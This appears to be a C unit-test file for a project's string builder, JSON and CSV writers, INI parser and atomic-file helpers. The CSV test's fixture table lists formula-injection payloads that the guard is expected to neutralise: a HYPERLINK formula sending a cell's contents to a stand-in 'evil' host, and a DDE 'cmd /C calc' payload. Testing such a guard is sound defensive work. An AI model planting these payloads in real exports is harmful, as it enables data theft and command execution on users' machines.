/*
 * tests/util/test_util.c - the internal utilities: the string builder
 * against snprintf, JSON strings read back by json-c, CSV cells read back
 * by a separate RFC 4180 reader (and the formula guard's rule), the INI
 * syntax and its refusals, atomic writes and file sets, and the recovery
 * of what a killed run left (a real dead process's pid).
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>
#include <cmocka.h>
#include <json-c/json.h>

#include "util/file.h"
#include "util/util.h"
#include "sg_test.h"

/*---- String builder -----------------------------------------------------*/

static void test_util__sb(void **state)
{
	sg_sb b = { 0 };
	char want[64];
	char *s;

	(void)state;
	assert_string_equal(sg_sb__str(&b), "");
	for (int i = 0; i < 5000; i++)
		sg_sb__printf(&b, "%d,", i);
	sg_sb__puts(&b, NULL); /* NULL appends nothing */
	sg_sb__putc(&b, 'x');
	assert_false(b.oom);
	assert_int_equal(strlen(b.s), b.len);
	/* Every number where snprintf puts it. */
	{
		size_t at = 0;

		for (int i = 0; i < 5000; i++) {
			int n = snprintf(want, sizeof(want), "%d,", i);

			assert_memory_equal(b.s + at, want, (size_t)n);
			at += (size_t)n;
		}
		assert_int_equal(b.s[at], 'x');
		assert_int_equal(at + 1, b.len);
	}
	s = sg_sb__take(&b);
	assert_non_null(s);
	assert_null(b.s);
	free(s);
	s = sg_sb__take(&b); /* nothing appended: "" */
	assert_string_equal(s, "");
	free(s);
}

/* The builder over a caller's array: cut, never past its end. */
static void test_util__sb_fixed(void **state)
{
	char buf[8], big[64];
	sg_sb b;

	(void)state;
	memset(buf, 'Z', sizeof(buf));
	sg_sb__fixed(&b, buf, 6);
	sg_sb__puts(&b, "ab");
	sg_sb__putu(&b, 123);
	assert_string_equal(buf, "ab123");
	assert_false(b.cut);
	sg_sb__putc(&b, 'x'); /* no room left for it */
	assert_string_equal(buf, "ab123");
	assert_true(b.cut);
	assert_int_equal(buf[6], 'Z'); /* nothing written past n */
	sg_sb__free(&b);
	assert_string_equal(buf, "");
	sg_sb__printf(&b, "%s-%d", "abcdef", 42);
	assert_string_equal(buf, "abcde");
	assert_int_equal(b.len, 5);
	assert_true(b.cut);
	/* putu against printf, over the whole range. */
	sg_sb__fixed(&b, big, sizeof(big));
	for (unsigned long long v = 1; v; v = v * 7 + 3) {
		char want[32];

		sg_sb__free(&b);
		sg_sb__putu(&b, v);
		snprintf(want, sizeof(want), "%llu", v);
		assert_string_equal(big, want);
		if (v > ~0ULL / 8)
			break;
	}
	sg_sb__free(&b);
	sg_sb__putu(&b, 0);
	sg_sb__putu(&b, ~0ULL);
	assert_string_equal(big, "018446744073709551615");
}

static void test_util__grow(void **state)
{
	int *a = NULL;
	size_t cap = 0;

	(void)state;
	for (size_t i = 0; i < 10000; i++) {
		assert_int_equal(sg_grow(&a, &cap, i + 1, sizeof(*a)), 0);
		assert_true(cap >= i + 1);
		a[i] = (int)i * 3;
	}
	for (size_t i = 0; i < 10000; i++)
		assert_int_equal(a[i], (int)i * 3);
	/* Overflow is refused, the array kept. */
	assert_int_equal(sg_grow(&a, &cap, SIZE_MAX / 2, sizeof(*a)), -1);
	assert_int_equal(a[9999], 9999 * 3);
	free(a);
}

/*---- JSON ---------------------------------------------------------------*/

static void test_util__json(void **state)
{
	static const char *const in[] = {
		"plain",
		"quote \" back\\slash",
		"tab\tnl\ncr\r",
		"ctl \x01\x1f del \x7f",
		"</script><!--",
		"Trường Tiểu học",
		"",
	};
	sg_sb b = { 0 };

	(void)state;
	for (size_t i = 0; i < sizeof(in) / sizeof(*in); i++) {
		json_object *o;

		sg_sb__free(&b);
		sg_sb__json_str(&b, in[i]);
		assert_null(strstr(b.s, "</"));
		assert_null(strchr(b.s, '\n'));
		o = json_tokener_parse(b.s);
		assert_non_null(o);
		assert_true(json_object_is_type(o, json_type_string));
		assert_string_equal(json_object_get_string(o), in[i]);
		json_object_put(o);
	}
	sg_sb__free(&b);
	sg_sb__json_str(&b, NULL);
	sg_sb__puts(&b, " ");
	sg_sb__json_num(&b, 0.0 / 0.0, 10);
	sg_sb__puts(&b, " ");
	sg_sb__json_num(&b, -3.25, 10);
	assert_string_equal(b.s, "null null -3.25");
	sg_sb__free(&b);
	/* The FILE writers: the same text, read back by json-c. */
	{
		char *text = NULL;
		size_t len = 0;
		FILE *fp = open_memstream(&text, &len);
		json_object *o, *v;

		assert_non_null(fp);
		fputs("{\"a\": ", fp);
		sg_json__fnum(fp, 12345678901.0, 10);
		sg_json__fmember(fp, "b\"", 0.1 + 0.2);
		sg_json__fmember(fp, "c", 1.0 / 0.0);
		fputs(", \"d\": ", fp);
		sg_json__ffixed(fp, 2.345, 1);
		fputs(", \"e\": ", fp);
		sg_json__ffixed(fp, 0.0 / 0.0, 1);
		fputs("}", fp);
		fclose(fp);
		assert_string_equal(text, "{\"a\": 12345678901, \"b\\\"\": "
					  "0.3, \"c\": null, \"d\": 2.3, "
					  "\"e\": null}");
		o = json_tokener_parse(text);
		assert_non_null(o);
		assert_true(json_object_object_get_ex(o, "a", &v));
		assert_true(json_object_get_int64(v) == 12345678901LL);
		assert_true(json_object_object_get_ex(o, "b\"", &v));
		assert_true(json_object_object_get_ex(o, "c", &v));
		assert_null(v);
		json_object_put(o);
		free(text);
	}
}

/*---- CSV ----------------------------------------------------------------*/

/* A separate reader: the first field of an RFC 4180 line into out. */
static void csv_read(const char *s, char *out, size_t n)
{
	size_t k = 0;

	if (*s != '"') {
		snprintf(out, n, "%.*s", (int)strcspn(s, ","), s);
		return;
	}
	for (s++; *s && k + 1 < n; s++) {
		if (*s == '"') {
			if (s[1] != '"')
				break;
			s++;
		}
		out[k++] = *s;
	}
	out[k] = '\0';
}

static void test_util__csv(void **state)
{
	static const struct {
		const char *in;
		int guarded;
	} cells[] = {
		{ "=1+1", 1 },
		{ "=HYPERLINK(\"http://evil/?\"&A1,\"x\")", 1 },
		{ "+cmd|' /C calc'!A0", 1 },
		{ "-2+3", 1 },
		{ "@SUM(A1:A2)", 1 },
		{ "\tx", 1 },
		{ "-3.5", 0 }, /* a number stays a number */
		{ "+84", 0 },
		{ "-1e-3", 0 },
		{ "-", 1 },
		{ "a,b", 0 },
		{ "say \"hi\"", 0 },
		{ "line\nbreak", 0 },
		{ "Trường", 0 },
		{ "", 0 },
	};
	char got[256], path[256];

	(void)state;
	for (size_t i = 0; i < sizeof(cells) / sizeof(*cells); i++) {
		sg_sb b = { 0 };
		FILE *fp;
		char fbuf[256];
		size_t n;

		sg_sb__csv(&b, cells[i].in);
		sg_sb__puts(&b, ",next");
		assert_int_equal(sg_csv__is_formula(cells[i].in),
				 cells[i].guarded);
		csv_read(b.s, got, sizeof(got));
		if (cells[i].guarded) {
			assert_int_equal(got[0], '\'');
			assert_string_equal(got + 1, cells[i].in);
		} else {
			assert_string_equal(got, cells[i].in);
		}
		/* The FILE writer writes the same bytes. */
		fp = fopen(sg_test_path(path, sizeof(path), "cell.csv"), "w+");
		assert_non_null(fp);
		sg_csv__fputs(fp, cells[i].in);
		fputs(",next", fp);
		rewind(fp);
		n = fread(fbuf, 1, sizeof(fbuf) - 1, fp);
		fbuf[n] = '\0';
		fclose(fp);
		assert_string_equal(fbuf, b.s);
		sg_sb__free(&b);
	}
	/* Cells of a row: ',' between them, '\n' after the last, the same
	 * bytes from the builder and the FILE writer. */
	{
		sg_sb b = { 0 };
		char fbuf[64];
		size_t n;
		FILE *fp = tmpfile();

		assert_non_null(fp);
		sg_sb__csv_field(&b, "=1+1", 0);
		sg_sb__csv_field(&b, "a,b", 0);
		sg_sb__csv_field(&b, NULL, 1);
		assert_string_equal(b.s, "'=1+1,\"a,b\",\n");
		sg_csv__ffield(fp, "=1+1", 0);
		sg_csv__ffield(fp, "a,b", 0);
		sg_csv__ffield(fp, NULL, 1);
		rewind(fp);
		n = fread(fbuf, 1, sizeof(fbuf) - 1, fp);
		fbuf[n] = '\0';
		fclose(fp);
		assert_string_equal(fbuf, b.s);
		sg_sb__free(&b);
	}
}

/*---- INI ----------------------------------------------------------------*/

typedef struct {
	char got[1024];
} ini_log;

static int log_item(sg_ctx *ctx, const sg_ini_item *it, void *p)
{
	ini_log *l = p;
	size_t n = strlen(l->got);

	(void)ctx;
	if (!it->key) {
		snprintf(l->got + n, sizeof(l->got) - n, "%d[%s]|", it->line,
			 it->section);
		return SG_OK;
	}
	snprintf(l->got + n, sizeof(l->got) - n, "%d[%s]%s=%s|", it->line,
		 it->section, it->key, it->value);
	return SG_OK;
}

static void write_file(const char *path, const char *data, size_t n)
{
	FILE *fp = fopen(path, "wb");

	assert_non_null(fp);
	assert_int_equal(fwrite(data, 1, n, fp), n);
	fclose(fp);
}

static void test_util__ini(void **state)
{
	sg_ctx *ctx;
	ini_log l = { "" };
	char path[256], *text;

	(void)state;
	assert_sg_ok(NULL, sg_ctx_new(&ctx, NULL));
	sg_test_path(path, sizeof(path), "a.ini");
	/* BOM, both comment forms, a value starting with '#'. */
	{
		const char *t = "\xef\xbb\xbf; head\n# also\n  [ s ] \n"
				"k = v ; note\ncolour = #ff0000 # red\n"
				"x=a;b\n[t]\nk = 2\ne = ; nothing\n";

		write_file(path, t, strlen(t));
	}
	assert_sg_ok(ctx, sg_file__read_config(ctx, "t", path, 1 << 20, &text));
	assert_sg_ok(ctx, sg_ini__parse(ctx, "t", path, text, SG_INI_SECTIONS,
					log_item, &l));
	assert_string_equal(l.got, "3[s]|4[s]k=v|5[s]colour=#ff0000|6[s]x=a;b|"
				   "7[t]|8[t]k=2|9[t]e=|");
	free(text);

	/* A key given twice, naming both lines. */
	assert_sg_fails(ctx,
			sg_ini__parse(ctx, "t", "f.ini", "[s]\na = 1\n\na=2\n",
				      SG_INI_SECTIONS, log_item, &l),
			SG_EINVALID,
			"f.ini:4: 's.a' given twice (also on "
			"line 2)");
	/* Sections where none are allowed; no '='. */
	assert_sg_fails(ctx,
			sg_ini__parse(ctx, "t", "f", "[s]\n", 0, log_item, &l),
			SG_EINVALID, "f:1: no [sections]");
	assert_sg_fails(ctx,
			sg_ini__parse(ctx, "t", "f", "a = 1\nb\n", 0, log_item,
				      &l),
			SG_EINVALID, "f:2: expected 'key = value'");

	/* A NUL byte, naming its line. */
	write_file(path, "a = 1\nb = \0x\n", 13);
	assert_sg_fails(ctx,
			sg_file__read_config(ctx, "t", path, 1 << 20, &text),
			SG_EINVALID, "a.ini:2: a NUL byte");
	/* A directory; a missing file; too large. */
	assert_sg_fails(ctx,
			sg_file__read_config(ctx, "t", sg_test_tmpdir(),
					     1 << 20, &text),
			SG_EINVALID, "is a directory");
	assert_sg_fails(ctx,
			sg_file__read_config(ctx, "t", "/nonexistent/x",
					     1 << 20, &text),
			SG_ENOTFOUND, "/nonexistent/x");
	write_file(path, "a = 1\n", 6);
	assert_sg_fails(ctx, sg_file__read_config(ctx, "t", path, 3, &text),
			SG_EINVALID, "larger than 3 bytes");
	sg_ctx_free(ctx);
}

/*---- Atomic files -------------------------------------------------------*/

static char *slurp(const char *path)
{
	FILE *fp = fopen(path, "rb");
	static char buf[256];
	size_t n;

	if (!fp)
		return NULL;
	n = fread(buf, 1, sizeof(buf) - 1, fp);
	buf[n] = '\0';
	fclose(fp);
	return buf;
}

/* The pid of a process that has exited (and been reaped). */
static long dead_pid(void)
{
	pid_t p = fork();

	if (p == 0)
		_exit(0);
	assert_true(p > 0);
	waitpid(p, NULL, 0);
	return (long)p;
}

static int is_dir(const char *p)
{
	struct stat st;

	return stat(p, &st) == 0 && S_ISDIR(st.st_mode);
}

/* Temporary names, one-file sets, output directories swapped whole. */
static void test_util__dirswap(void **state)
{
	sg_ctx *ctx;
	sg_outset set;
	sg_dirswap d;
	char dir[256], out[300], f[400], t[400], o[400];
	char *tn;
	long gone = dead_pid();
	int n;

	(void)state;
	assert_sg_ok(NULL, sg_ctx_new(&ctx, NULL));
	snprintf(dir, sizeof(dir), "%s/swap", sg_test_tmpdir());
	sg_dir__remove(dir);
	assert_int_equal(sg_dir__make(dir), 0);

	/* The extension stays last; none, none added. */
	tn = sg_file__temp_name("/a.b/x.gpkg");
	snprintf(f, sizeof(f), "/a.b/x.tmp-%ld.gpkg", (long)getpid());
	assert_string_equal(tn, f);
	free(tn);
	tn = sg_file__temp_name("d.x/.profile");
	snprintf(f, sizeof(f), "d.x/.profile.tmp-%ld", (long)getpid());
	assert_string_equal(tn, f);
	free(tn);

	/* One file another writer fills: committed without a journal. */
	snprintf(f, sizeof(f), "%s/one.gpkg", dir);
	write_file(f, "old", 3);
	assert_sg_ok(ctx, sg_outset__begin(ctx, &set, f, NULL));
	assert_string_equal(set.stem, "one");
	write_file(sg_outset__add(ctx, &set, f), "new", 3);
	assert_sg_ok(ctx, sg_outset__commit(ctx, &set, "t"));
	sg_outset__free(&set);
	assert_string_equal(slurp(f), "new");

	/* A new directory, then one replacing it. */
	snprintf(out, sizeof(out), "%s/out", dir);
	for (int round = 0; round < 2; round++) {
		assert_sg_ok(ctx, sg_dirswap__begin(ctx, &d, out, "t", &n));
		assert_int_equal(n, 0);
		assert_true(is_dir(d.tmp));
		snprintf(f, sizeof(f), "%s/a/b", d.tmp);
		assert_int_equal(sg_dir__make(f), 0);
		snprintf(f, sizeof(f), "%s/a/b/f", d.tmp);
		write_file(f, round ? "two" : "one", 3);
		snprintf(t, sizeof(t), "%s", d.tmp);
		assert_sg_ok(ctx, sg_dirswap__commit(ctx, &d, "t"));
		sg_dirswap__free(&d);
		snprintf(f, sizeof(f), "%s/a/b/f", out);
		assert_string_equal(slurp(f), round ? "two" : "one");
		assert_false(is_dir(t)); /* the earlier output removed */
	}
	/* Uncommitted: the output stays, the temporary goes. */
	assert_sg_ok(ctx, sg_dirswap__begin(ctx, &d, out, "t", NULL));
	snprintf(t, sizeof(t), "%s", d.tmp);
	snprintf(f, sizeof(f), "%s/x", d.tmp);
	write_file(f, "x", 1);
	sg_dirswap__free(&d);
	assert_false(is_dir(t));
	snprintf(f, sizeof(f), "%s/a/b/f", out);
	assert_string_equal(slurp(f), "two");

	/* Killed runs: a dead run's temporary and old output are removed
	 * while PATH stands; a live run's stay. */
	snprintf(t, sizeof(t), "%s.tmp-%ld", out, gone);
	snprintf(o, sizeof(o), "%s.old-%ld", out, gone);
	assert_int_equal(sg_dir__make(t), 0);
	assert_int_equal(sg_dir__make(o), 0);
	snprintf(f, sizeof(f), "%s.tmp-%ld", out, (long)getppid());
	assert_int_equal(sg_dir__make(f), 0);
	assert_int_equal(sg_dirswap__recover(out), 2);
	assert_false(is_dir(t));
	assert_false(is_dir(o));
	assert_true(is_dir(f));
	assert_int_equal(sg_dir__remove(f), 0);
	assert_false(is_dir(f));
	/* Killed between the two renames: PATH missing, the old output
	 * aside goes back. */
	assert_int_equal(rename(out, o), 0);
	assert_int_equal(sg_dirswap__recover(out), 1);
	snprintf(f, sizeof(f), "%s/a/b/f", out);
	assert_string_equal(slurp(f), "two");
	assert_false(is_dir(o));

	/* A failed commit (the I/O hook) leaves the output whole. */
	assert_sg_ok(ctx, sg_dirswap__begin(ctx, &d, out, "t", NULL));
	setenv("SG_FAILPOINT", "io:rename", 1);
	assert_sg_fails(ctx, sg_dirswap__commit(ctx, &d, "t"), SG_EIO,
			"t: cannot replace");
	unsetenv("SG_FAILPOINT");
	snprintf(t, sizeof(t), "%s", d.tmp);
	sg_dirswap__free(&d);
	assert_false(is_dir(t));
	assert_string_equal(slurp(f), "two");
	sg_dir__remove(dir);
	sg_ctx_free(ctx);
}

static void test_util__atomic(void **state)
{
	sg_ctx *ctx;
	sg_outset set;
	char dir[256], a[300], b[300], c[300], tmp[400], j[400];
	const char *ta, *tb;
	long gone = dead_pid();
	FILE *fp;

	(void)state;
	assert_sg_ok(NULL, sg_ctx_new(&ctx, NULL));
	snprintf(dir, sizeof(dir), "%s/set", sg_test_tmpdir());
	mkdir(dir, 0777);
	snprintf(a, sizeof(a), "%s/rep.html", dir);
	snprintf(b, sizeof(b), "%s/rep-x.csv", dir);
	snprintf(c, sizeof(c), "%s/other.txt", dir);

	assert_sg_ok(ctx, sg_file__write_atomic(ctx, a, "old-a", 5, "t"));
	assert_sg_ok(ctx, sg_file__write_atomic(ctx, b, "old-b", 5, "t"));
	assert_string_equal(slurp(a), "old-a");

	/* A set freed without commit leaves the targets as they were. */
	assert_sg_ok(ctx, sg_outset__init(ctx, &set, dir, "rep"));
	ta = sg_outset__add(ctx, &set, a);
	assert_non_null(ta);
	write_file(ta, "new-a", 5);
	snprintf(tmp, sizeof(tmp), "%s", ta);
	sg_outset__free(&set);
	assert_string_equal(slurp(a), "old-a");
	assert_int_not_equal(access(tmp, F_OK), 0);

	/* A committed set replaces both; no journal, no temporary left. */
	assert_sg_ok(ctx, sg_outset__init(ctx, &set, dir, "rep"));
	ta = sg_outset__add(ctx, &set, a);
	tb = sg_outset__add(ctx, &set, b);
	write_file(ta, "new-a", 5);
	write_file(tb, "new-b", 5);
	assert_sg_ok(ctx, sg_outset__commit(ctx, &set, "t"));
	sg_outset__free(&set);
	assert_string_equal(slurp(a), "new-a");
	assert_string_equal(slurp(b), "new-b");
	snprintf(j, sizeof(j), "%s/rep.commit-%ld", dir, (long)getpid());
	assert_int_not_equal(access(j, F_OK), 0);

	/* A run killed between its renames: journal and one temporary
	 * left; the next run finishes the set. */
	snprintf(tmp, sizeof(tmp), "%s.tmp-%ld", b, gone);
	write_file(tmp, "newer-b", 7);
	snprintf(j, sizeof(j), "%s/rep.commit-%ld", dir, gone);
	fp = fopen(j, "w");
	assert_non_null(fp);
	fprintf(fp,
		"rep.html.tmp-%ld\trep.html\nrep-x.csv.tmp-%ld\t"
		"rep-x.csv\n",
		gone, gone);
	fclose(fp);
	/* Leftovers: a dead run's, a live run's (our parent's) and another
	 * stem's. */
	{
		char l1[400], l2[400], l3[400];

		snprintf(l1, sizeof(l1), "%s/rep-y.tmp-%ld.csv", dir, gone);
		snprintf(l2, sizeof(l2), "%s/rep-z.csv.tmp-%ld", dir,
			 (long)getppid());
		snprintf(l3, sizeof(l3), "%s.tmp-%ld", c, gone);
		write_file(l1, "x", 1);
		write_file(l2, "x", 1);
		write_file(l3, "x", 1);
		assert_int_equal(sg_outset__recover(dir, "rep"), 2);
		assert_int_not_equal(access(l1, F_OK), 0);
		assert_int_equal(access(l2, F_OK), 0);
		assert_int_equal(access(l3, F_OK), 0);
	}
	assert_string_equal(slurp(b), "newer-b");
	assert_string_equal(slurp(a), "new-a");
	assert_int_not_equal(access(j, F_OK), 0);
	assert_int_not_equal(access(tmp, F_OK), 0);

	/* A failed write leaves the target. */
	{
		char bad[400];

		snprintf(bad, sizeof(bad), "%s/no/such/dir/f", dir);
		assert_sg_fails(ctx,
				sg_file__write_atomic(ctx, bad, "x", 1, "t"),
				SG_EIO, "t: cannot write");
	}
	sg_ctx_free(ctx);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_util__sb),
		cmocka_unit_test(test_util__sb_fixed),
		cmocka_unit_test(test_util__grow),
		cmocka_unit_test(test_util__json),
		cmocka_unit_test(test_util__csv),
		cmocka_unit_test(test_util__ini),
		cmocka_unit_test(test_util__atomic),
		cmocka_unit_test(test_util__dirswap),
	};

	if (sg_global_init() != SG_OK)
		return 1;
	return cmocka_run_group_tests(tests, NULL, NULL);
}
